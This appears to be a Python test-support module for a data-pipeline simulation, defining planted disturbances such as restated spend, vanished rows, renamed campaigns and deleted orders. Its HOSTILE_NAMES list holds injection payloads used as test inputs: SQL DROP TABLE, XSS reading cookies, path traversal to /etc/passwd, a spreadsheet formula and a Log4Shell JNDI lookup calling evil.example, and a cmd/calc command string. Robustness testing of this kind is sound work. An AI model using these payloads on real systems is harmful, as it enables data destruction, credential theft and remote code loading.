"""Disturbances of the world itself: what vendors then report is true, however odd it looks."""

from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Literal

PlantKind = Literal["restate", "vanish", "name", "delete_order"]

HOSTILE_NAMES: tuple[str, ...] = (
    "'; DROP TABLE raw.orders; --",
    "{{ env_var('HOME') }}{% raw %}",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","click")',
    "nul\x00inside",
    "\U0001f6d2\U0001f468\u200d\U0001f469\u200d\U0001f467 Größe \u202eright to left\u202c",
    "line\nbreak\ttab\r\n",
    '"quoted", comma; semi\\backslash',
    "-1+1|cmd' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x{0}{name}",
    "  ",
    "null",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Plant:
    """One disturbance, in force from `known_from` on.

    restate: spend and conversions of `account_id` on `day` (of `campaign_id`, if given) are
    multiplied by `factor`, however settled they were. vanish: the rows are gone.
    name: the campaign, ad group, ad or product `entity_id` is called `name`.
    delete_order: the order `entity_id` is gone, with its refunds, as if it had never been placed.
    """

    kind: PlantKind
    known_from: datetime
    account_id: str | None = None
    day: date | None = None
    campaign_id: str | None = None
    factor: Decimal = Decimal("1.10")
    entity_id: str | None = None
    name: str | None = None


def huge_name(megabytes: int = 10) -> str:
    """A name of that many million characters."""
    return "N" * (megabytes * 1_000_000)
